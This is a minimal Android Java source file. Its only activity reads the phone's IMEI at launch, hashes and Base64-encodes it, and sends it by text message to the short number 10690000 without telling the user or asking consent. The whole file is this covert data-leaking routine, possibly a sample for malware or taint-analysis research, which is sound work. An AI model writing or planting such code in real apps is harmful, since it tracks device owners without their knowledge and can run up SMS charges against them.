package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Base64;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        try {
            send(hash(phone.getImei()));
        } catch (NoSuchAlgorithmException error) {
            finish();
        }
    }

    private static byte[] hash(String text) throws NoSuchAlgorithmException {
        return MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8));
    }

    private static void send(byte[] digest) {
        String text = Base64.encodeToString(digest, Base64.NO_WRAP);
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
}
